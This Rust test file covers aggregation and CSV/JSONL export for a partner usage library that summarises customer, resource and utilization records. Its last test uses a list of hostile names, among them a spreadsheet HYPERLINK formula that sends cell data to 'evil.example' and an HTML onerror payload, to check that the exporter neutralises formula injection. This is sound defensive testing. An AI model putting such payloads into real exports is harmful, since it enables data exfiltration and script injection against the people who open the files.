//! Aggregation and export on the seed examples (the fixtures) and on
//! constructed utilization records, with concrete expected numbers.

use partner_usage_core::aggregate::{
    BadRecordPolicy, BudgetStatus, CustomerOptions, CustomerRow, CustomerSummariser,
    CustomerSummary, ResourceDimension, ResourceOptions, ResourceSummariser, ResourceSummary,
    UtilizationOptions, UtilizationPoint, UtilizationSummariser, UtilizationSummary,
};
use partner_usage_core::export::csv::{to_csv, CsvRecord};
use partner_usage_core::export::jsonl::to_jsonl;
use partner_usage_core::model::{AzureUtilizationRecord, CustomerMonthlyUsageRecord};
use partner_usage_core::time::Timestamp;
use serde::Deserialize;
use serde_json::value::RawValue;

const CUSTOMERS: &str = include_str!("fixtures/customer_usage_records.json");
const RESOURCES: &str = include_str!("fixtures/resource_usage_records.json");

#[derive(Deserialize)]
struct Page<'a> {
    #[serde(borrow)]
    items: Vec<&'a RawValue>,
}

fn items(body: &str) -> Vec<&RawValue> {
    serde_json::from_str::<Page<'_>>(body).unwrap().items
}

fn customers(options: CustomerOptions) -> CustomerSummary {
    let mut s = CustomerSummariser::new(options);
    s.add_page(1, &items(CUSTOMERS)).unwrap();
    s.finish().unwrap()
}

fn resources(group_by: ResourceDimension, then_by: Option<ResourceDimension>) -> ResourceSummary {
    let mut o = ResourceOptions::default();
    o.group_by = group_by;
    o.then_by = then_by;
    let mut s = ResourceSummariser::new(o);
    s.add_page(1, &items(RESOURCES)).unwrap();
    s.finish().unwrap()
}

#[test]
fn seed_customers_totals_per_currency_and_usd() {
    let s = customers(CustomerOptions::default());
    assert_eq!((s.records, s.skipped_records), (4, 0));
    let totals: Vec<(String, bool, String, u64)> = s
        .currency_totals
        .iter()
        .map(|t| {
            (
                t.currency.label(),
                t.legacy,
                t.amount.to_string(),
                t.records,
            )
        })
        .collect();
    assert_eq!(
        totals,
        [
            ("GBP".into(), false, "27.23292827625710931604".into(), 2),
            ("SEK".into(), false, "120.5682999999995904716".into(), 1),
            ("legacy:fr-FR".into(), true, "0".into(), 1),
        ]
    );
    assert_eq!(s.usd.to_string(), "45.68000000000000089635");
    assert_eq!(s.usd_number, 45.68);
    assert_eq!((s.azure_plan.customers, s.legacy.customers), (3, 1));
    assert_eq!(s.azure_plan.usd, s.usd);
    assert_eq!(s.legacy.usd.to_string(), "0");
}

#[test]
fn seed_customers_budget_status() {
    let s = customers(CustomerOptions::default());
    let by_id = |prefix: &str| {
        s.customers
            .iter()
            .find(|c| c.customer_id.starts_with(prefix))
            .unwrap()
    };
    let se = by_id("b1b1");
    assert_eq!(se.status, BudgetStatus::Over);
    assert_eq!(se.percent_used_computed.unwrap().to_string(), "602.84");
    assert_eq!(se.percent_used_reported.unwrap().to_string(), "602.84");
    assert!(!se.percent_disagrees);
    let uk = by_id("d3d3");
    assert_eq!(uk.status, BudgetStatus::Under);
    assert_eq!(uk.percent_used_computed.unwrap().to_string(), "28.08");
    assert_eq!(by_id("a0a0").status, BudgetStatus::NoBudget);
    assert_eq!(by_id("c2c2").status, BudgetStatus::NoBudget);
    assert_eq!(
        (
            s.budget.no_budget,
            s.budget.under,
            s.budget.near,
            s.budget.over,
            s.budget.disagreements
        ),
        (2, 1, 0, 1, 0)
    );
    // At a 25 % threshold the UK customer (28.08 %) is near.
    let mut o = CustomerOptions::default();
    o.near_threshold = "25".parse().unwrap();
    assert_eq!(customers(o).budget.near, 1);
}

#[test]
fn seed_customers_top_n_and_others_keep_the_total() {
    let mut o = CustomerOptions::default();
    o.top_n = Some(2);
    let s = customers(o);
    let top: Vec<(&str, String, u64, bool)> = s
        .top
        .iter()
        .map(|r| (r.label.as_str(), r.usd.to_string(), r.count, r.others))
        .collect();
    assert_eq!(
        top,
        [
            (
                "Modern Azure Customer UK",
                "33.280000000000001044".into(),
                1,
                false
            ),
            (
                "Modern Azure Customer SE",
                "12.39999999999999985235".into(),
                1,
                false
            ),
            ("others", "0".into(), 2, true),
        ]
    );
    // Equal USD: ordered by id.
    assert!(s.customers[2].customer_id < s.customers[3].customer_id);
}

#[test]
fn seed_customers_json_shape_for_javascript() {
    let v = serde_json::to_value(customers(CustomerOptions::default())).unwrap();
    for key in [
        "records",
        "skippedRecords",
        "errors",
        "missingCost",
        "missingUsd",
        "usd",
        "usdNumber",
        "currencyTotals",
        "azurePlan",
        "legacy",
        "nearThreshold",
        "budget",
        "top",
        "customers",
    ] {
        assert!(v.get(key).is_some(), "{key}");
    }
    assert_eq!(v["usd"], "45.68000000000000089635");
    assert_eq!(v["currencyTotals"][2]["currency"], "legacy:fr-FR");
    assert_eq!(v["customers"][1]["status"], "over");
    assert_eq!(v["customers"][1]["percentUsedComputed"], "602.84");
    assert_eq!(v["budget"]["noBudget"], 2);
}

#[test]
fn seed_resources_merge_resource_group_spellings() {
    let s = resources(ResourceDimension::ResourceGroup, None);
    assert_eq!(s.group_count, 1);
    let g = &s.groups[0];
    assert_eq!(
        (g.key.as_str(), g.label.as_str(), g.records),
        ("testrg1", "TESTRG1", 3)
    );
    assert_eq!(g.usd.to_string(), "100.6499999999999985997");
    assert_eq!(
        g.currency_totals[0].amount.to_string(),
        "82.3616054989566696032"
    );
    assert_eq!(s.usd, g.usd);
    assert_eq!(s.currency_totals[0].currency.label(), "GBP");
}

#[test]
fn seed_resources_nested_group_then_type() {
    let s = resources(
        ResourceDimension::ResourceGroup,
        Some(ResourceDimension::ResourceType),
    );
    let children: Vec<(&str, String, u64)> = s.groups[0]
        .children
        .iter()
        .map(|c| (c.label.as_str(), c.usd.to_string(), c.records))
        .collect();
    assert_eq!(
        children,
        [
            ("Microsoft.Compute", "100.6399999999999986".into(), 2),
            ("Microsoft.Storage", "0.0099999999999999997".into(), 1),
        ]
    );
    let rows = s.rows();
    assert_eq!(rows.len(), 3);
    assert_eq!(rows[1].child, "Microsoft.Compute");
    assert_eq!(rows[1].amount.to_string(), "82.3534225277198135");
}

#[test]
fn seed_resources_other_dimensions() {
    let by_type = resources(ResourceDimension::ResourceType, None);
    assert_eq!(by_type.groups.len(), 2);
    assert_eq!(by_type.groups[0].label, "Microsoft.Compute");
    let by_resource = resources(ResourceDimension::Resource, None);
    assert_eq!(by_resource.groups[0].label, "testVM1");
    assert_eq!(by_resource.groups.len(), 3);
    // The seed spells one entitlement id `{entitlemen-id}`: two ids, one name.
    let by_ent = resources(ResourceDimension::Entitlement, None);
    assert_eq!(by_ent.groups.len(), 2);
    assert!(by_ent
        .groups
        .iter()
        .all(|g| g.label == "Partner Subscription"));
    assert_eq!(by_ent.groups[0].key, "{entitlement-id}");
}

#[test]
fn bad_records_are_named_and_either_fail_or_are_counted() {
    let good = items(RESOURCES);
    let bad_json = r#"{"resourceGroupName":"x","totalCost":"abc"}"#;
    let bad: &RawValue = serde_json::from_str(bad_json).unwrap();
    let page2 = [good[0], bad, good[1]];

    let mut strict = ResourceSummariser::new(ResourceOptions::default());
    strict.add_page(1, &good).unwrap();
    let err = strict.add_page(2, &page2).unwrap_err();
    let msg = err.to_string();
    assert!(
        msg.starts_with("could not decode page 2, item 1, field `totalCost`: invalid type"),
        "{msg}"
    );

    let mut o = ResourceOptions::default();
    o.bad_records = BadRecordPolicy::Skip;
    let mut lenient = ResourceSummariser::new(o);
    lenient.add_page(1, &good).unwrap();
    lenient.add_page(2, &page2).unwrap();
    let s = lenient.finish().unwrap();
    assert_eq!((s.records, s.skipped_records), (5, 1));
    assert_eq!((s.errors[0].page, s.errors[0].index), (Some(2), Some(1)));
    assert_eq!(s.errors[0].path, "totalCost");
    let v = serde_json::to_value(&s).unwrap();
    assert_eq!(v["skippedRecords"], 1);
    assert_eq!(v["errors"][0]["path"], "totalCost");
}

#[test]
fn an_overflowing_record_is_skipped_whole() {
    let page: Vec<&RawValue> = serde_json::from_str(
        r#"[{"resourceGroupName":"a","totalCost":1e38,"currencyCode":"EUR","usdTotalCost":1},
            {"resourceGroupName":"a","totalCost":1e38,"currencyCode":"EUR","usdTotalCost":1},
            {"resourceGroupName":"a","totalCost":1,"currencyCode":"EUR","usdTotalCost":1}]"#,
    )
    .unwrap();
    let mut o = ResourceOptions::default();
    o.bad_records = BadRecordPolicy::Skip;
    let mut s = ResourceSummariser::new(o);
    s.add_page(7, &page).unwrap();
    let s = s.finish().unwrap();
    assert_eq!((s.records, s.skipped_records), (2, 1));
    assert_eq!(s.usd.to_string(), "2");
    assert_eq!(s.errors[0].path, "totalCost");
    assert!(
        s.errors[0].message.contains("page 7, item 1"),
        "{}",
        s.errors[0].message
    );
}

fn utilization(json: &str, records: &[AzureUtilizationRecord]) -> UtilizationSummary {
    let o: UtilizationOptions = serde_json::from_str(json).unwrap();
    let mut s = UtilizationSummariser::new(o).unwrap();
    for r in records {
        s.add(r).unwrap();
    }
    s.finish().unwrap()
}

fn usage(start: &str, name: &str, q: &str, unit: &str) -> AzureUtilizationRecord {
    serde_json::from_str(&usage_json(start, name, q, unit)).unwrap()
}

fn usage_json(start: &str, name: &str, q: &str, unit: &str) -> String {
    format!(
        r#"{{"usageStartTime":"{start}","usageEndTime":"{start}",
            "resource":{{"id":"m","name":"{name}","category":"Storage","subcategory":"Tiered Block Blob","region":"West Europe"}},
            "quantity":{q},"unit":"{unit}","infoFields":{{}},
            "instanceData":{{"resourceUri":"/subscriptions/s/resourceGroups/Prod/providers/Microsoft.Storage/storageAccounts/a",
                             "location":"westeurope","tags":{{"env":"prod"}}}}}}"#
    )
}

#[test]
fn utilization_daily_series_with_gaps_units_and_an_anomaly() {
    let mut records = vec![];
    for day in 1..=9 {
        if day != 4 {
            let q = if day == 9 { "5" } else { "1.0000000000000001" };
            records.push(usage(
                &format!("2024-01-0{day}T06:00:00+00:00"),
                "Hot LRS Data Stored",
                q,
                "1 GB/Month",
            ));
        }
    }
    records.push(usage(
        "2024-01-02T23:00:00-02:00",
        "Hot LRS Data Stored",
        "2",
        "10K",
    ));
    let s = utilization("{}", &records);
    assert_eq!(s.bucket_starts.len(), 9);
    assert!(s
        .bucket_starts
        .windows(2)
        .all(|w| w[1] - w[0] == 86_400_000.0));
    assert_eq!(
        Timestamp::from_unix_millis(s.bucket_starts[0] as i64).to_string(),
        "2024-01-01T00:00:00Z"
    );
    assert_eq!(s.series.len(), 2);
    let gb = &s.series[0];
    assert_eq!(gb.label, "Hot LRS Data Stored (1 GB/Month)");
    assert_eq!(gb.total.to_string(), "12.0000000000000007");
    let exact = gb.exact_values.as_ref().unwrap();
    assert_eq!(exact[3].to_string(), "0");
    assert_eq!(gb.values[3], 0.0);
    assert_eq!(gb.peak_index, 8);
    // Day 4's gap isn't an anomaly; day 9's jump to 5 is (window 7: days 2..8).
    assert_eq!(gb.anomalies, [8]);
    // 23:00 at -02:00 is 01:00 UTC on the 3rd.
    let k = &s.series[1];
    assert_eq!((k.unit.as_str(), k.values[2]), ("10K", 2.0));
    let csv = to_csv(&s);
    assert_eq!(csv.lines().count(), 1 + 2 * 9);
    assert_eq!(
        csv.lines().next(),
        Some(UtilizationPoint::COLUMNS.join(",").as_str())
    );
    assert!(csv.contains("2024-01-04T00:00:00Z,Hot LRS Data Stored,1 GB/Month,Hot LRS Data Stored (1 GB/Month),0,false\r\n"));
    assert!(csv.contains(",1.0000000000000001,false\r\n"));
    assert_eq!(to_jsonl(s.points()).unwrap().lines().count(), 18);
}

#[test]
fn utilization_weeks_months_and_offsets() {
    let records = [
        usage("2024-01-31T23:30:00Z", "m", "1", "u"),
        usage("2024-02-05T00:30:00+01:00", "m", "2", "u"), // Sunday 23:30 UTC, Monday in CET
    ];
    let weekly = utilization(r#"{"bucket":"week"}"#, &records);
    // In UTC both fall in the week of Monday 29 January.
    assert_eq!(weekly.series[0].values, [3.0]);
    assert_eq!(
        Timestamp::from_unix_millis(weekly.bucket_starts[0] as i64).to_string(),
        "2024-01-29T00:00:00Z"
    );
    let weekly_cet = utilization(r#"{"bucket":"week","offsetMinutes":60}"#, &records);
    assert_eq!(weekly_cet.series[0].values, [1.0, 2.0]);
    assert_eq!(
        Timestamp::from_unix_millis(weekly_cet.bucket_starts[1] as i64).to_string(),
        "2024-02-04T23:00:00Z"
    );
    let monthly = utilization(r#"{"bucket":"month"}"#, &records);
    assert_eq!(monthly.series[0].values, [1.0, 2.0]);
    let monthly_cet = utilization(r#"{"bucket":"month","offsetMinutes":60}"#, &records);
    assert_eq!(monthly_cet.series[0].values, [3.0]);
    assert_eq!(
        Timestamp::from_unix_millis(monthly_cet.bucket_starts[0] as i64).to_string(),
        "2024-01-31T23:00:00Z"
    );
    let hourly = utilization(r#"{"bucket":"hour"}"#, &records);
    assert_eq!(hourly.bucket_starts.len(), 4 * 24 + 1);
}

#[test]
fn utilization_group_by_every_dimension() {
    let json = usage_json(
        "2024-01-01T00:00:00Z",
        "Hot LRS Data Stored",
        "1",
        "1 GB/Month",
    );
    let records = [serde_json::from_str(&json).unwrap()];
    // The same record as a page, for the page scanner.
    let page = format!(r#"{{"items":[{json}]}}"#);
    for (group_by, label) in [
        (r#""meter""#, "Hot LRS Data Stored (1 GB/Month)"),
        (r#""category""#, "Storage (1 GB/Month)"),
        (r#""subcategory""#, "Tiered Block Blob (1 GB/Month)"),
        (r#""region""#, "West Europe (1 GB/Month)"),
        (r#""resource-group""#, "Prod (1 GB/Month)"),
        (r#""tag","tagKey":"env""#, "prod (1 GB/Month)"),
        (r#""tag","tagKey":"owner""#, "(untagged) (1 GB/Month)"),
    ] {
        let options = format!(r#"{{"groupBy":{group_by}}}"#);
        let s = utilization(&options, &records);
        assert_eq!(s.series[0].label, label);
        // The page scanner reads the same fields for each dimension.
        let mut scanned =
            UtilizationSummariser::new(serde_json::from_str(&options).unwrap()).unwrap();
        scanned.add_scanned_page(0, page.as_bytes()).unwrap();
        assert_eq!(scanned.finish().unwrap(), s, "{group_by}");
    }
}

/// A strict RFC 4180 reader for the tests: fields, quoted fields with
/// doubled quotes, `\r\n` record ends.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = vec![];
    let mut row = vec![];
    let mut field = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        if quoted {
            match c {
                '"' if chars.peek() == Some(&'"') => {
                    chars.next();
                    field.push('"');
                }
                '"' => quoted = false,
                c => field.push(c),
            }
            continue;
        }
        match c {
            '"' => {
                assert!(field.is_empty(), "quote inside an unquoted field");
                quoted = true;
            }
            ',' => row.push(std::mem::take(&mut field)),
            '\r' => {
                assert_eq!(chars.next(), Some('\n'), "bare CR outside quotes");
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            '\n' => panic!("bare LF outside quotes"),
            c => field.push(c),
        }
    }
    assert!(
        !quoted && field.is_empty() && row.is_empty(),
        "unterminated last row"
    );
    rows
}

const HOSTILE: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "<img src=x onerror=alert(1)>",
    "+SUM(1,2)",
    "-2+3",
    "@cmd",
    "\tTabbed",
    "Multi\r\nline, with \"quotes\"",
    "Ünïcødé 顧客 Ω",
];

#[test]
fn csv_and_jsonl_survive_hostile_names() {
    let records: Vec<CustomerMonthlyUsageRecord> = HOSTILE
        .iter()
        .enumerate()
        .map(|(i, name)| {
            let json = serde_json::json!({
                "id": format!("id{i}"), "name": name, "currencyCode": "EUR",
                "totalCost": -1.5, "usdTotalCost": 1
            });
            serde_json::from_str(&json.to_string()).unwrap()
        })
        .collect();
    let csv = to_csv(&records[..]);
    let rows = parse_csv(&csv);
    assert_eq!(rows.len(), 1 + HOSTILE.len());
    assert_eq!(rows[0], CustomerMonthlyUsageRecord::COLUMNS);
    for (row, name) in rows[1..].iter().zip(HOSTILE) {
        assert_eq!(row.len(), CustomerMonthlyUsageRecord::COLUMNS.len());
        let neutralised = matches!(
            name.as_bytes()[0],
            b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'
        );
        let want = if neutralised {
            format!("'{name}")
        } else {
            name.to_string()
        };
        assert_eq!(row[1], want);
        assert_eq!(row[5], "-1.5", "a negative amount stays numeric");
    }

    // The summary's tables too.
    let mut o = CustomerOptions::default();
    o.top_n = Some(3);
    let mut s = CustomerSummariser::new(o);
    for r in &records {
        s.add(r).unwrap();
    }
    let summary = s.finish().unwrap();
    let rows = parse_csv(&to_csv(&summary));
    assert_eq!(rows.len(), 1 + HOSTILE.len());
    assert_eq!(rows[0], CustomerRow::COLUMNS);
    assert!(rows[1..]
        .iter()
        .all(|r| r[5] == "-1.5" && !r[1].starts_with(['=', '+', '-', '@', '\t'])));
    let rows = parse_csv(&to_csv(&summary.top[..]));
    assert_eq!(rows.len(), 1 + 3 + 1);
    assert_eq!(rows[4], ["", "others", "5", "5", "true"]);

    // JSON Lines keep the names exactly and one record per line.
    let text = to_jsonl(&summary.customers).unwrap();
    assert_eq!(text.lines().count(), HOSTILE.len());
    let mut names: Vec<String> = text
        .lines()
        .map(|l| {
            serde_json::from_str::<serde_json::Value>(l).unwrap()["name"]
                .as_str()
                .unwrap()
                .to_string()
        })
        .collect();
    names.sort();
    let mut want: Vec<String> = HOSTILE.iter().map(|s| s.to_string()).collect();
    want.sort();
    assert_eq!(names, want);
}

#[test]
fn csv_of_every_summary_has_a_header_and_exact_money() {
    let rows = parse_csv(&to_csv(&resources(
        ResourceDimension::ResourceGroup,
        Some(ResourceDimension::Resource),
    )));
    assert_eq!(rows[0][..3], ["level", "groupKey", "group"]);
    assert_eq!(rows[1][..3], ["1", "testrg1", "TESTRG1"]);
    assert_eq!(rows[1][7], "100.6499999999999985997");
    assert_eq!(rows.len(), 1 + 1 + 3);

    let c = customers(CustomerOptions::default());
    let rows = parse_csv(&to_csv(&c.currency_totals[..]));
    assert_eq!(
        rows[1],
        [
            "GBP",
            "false",
            "27.23292827625710931604",
            "33.280000000000001044",
            "2"
        ]
    );

    let raw: Vec<partner_usage_core::model::ResourceUsageRecord> = items(RESOURCES)
        .iter()
        .map(|r| serde_json::from_str(r.get()).unwrap())
        .collect();
    let rows = parse_csv(&to_csv(&raw[..]));
    assert_eq!(rows[1][3], "TESTRG1");
    assert_eq!(rows[1][7], "2.0211938955034572");
    assert_eq!(rows[1][10], "2019-09-17T21:08:44.2566667+00:00");
    assert_eq!(rows[3][9], "0.0099999999999999997");
}
